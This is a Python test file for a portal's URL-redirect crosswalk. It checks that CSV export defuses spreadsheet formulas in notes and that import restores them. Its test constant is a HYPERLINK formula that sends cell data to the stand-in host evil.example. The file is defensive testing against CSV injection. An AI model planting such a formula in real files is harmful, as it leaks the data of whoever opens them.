"""Issue 13, finding 3: the crosswalk CSV export writes notes typed as formulas as text, and reads them back."""

import csv
import io

from hopnhat.portal.crosswalk import csv_io
from hopnhat.portal.crosswalk.api import decide
from hopnhat.portal.crosswalk.models import Mapping

from .conftest import ACTOR

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Xem")'


def test_csv_export_neutralises_formulas_and_import_restores_them(hagiang):
    decide(hagiang, "/lien-he", actor=ACTOR, type="redirect", target_url="https://tuyenquang.gov.vn/lien-he",
           notes=EVIL)
    decide(hagiang, "/gioi-thieu", actor=ACTOR, type="redirect", target_url="https://tuyenquang.gov.vn/gioi-thieu",
           notes="-5")
    out = io.StringIO()
    assert csv_io.export_csv(out) == 2
    rows = {r["old_url"]: r for r in csv.DictReader(io.StringIO(out.getvalue()))}
    assert rows["http://hagiang.gov.vn/lien-he"]["notes"] == "'" + EVIL
    assert rows["http://hagiang.gov.vn/gioi-thieu"]["notes"] == "-5"   # a number stays a number
    Mapping.objects.all().delete()
    report = csv_io.import_csv(out.getvalue(), name="xuat.csv", actor=ACTOR)
    assert (report["created"], report["errors"]) == (2, [])
    assert Mapping.objects.get(path="/lien-he").notes == EVIL
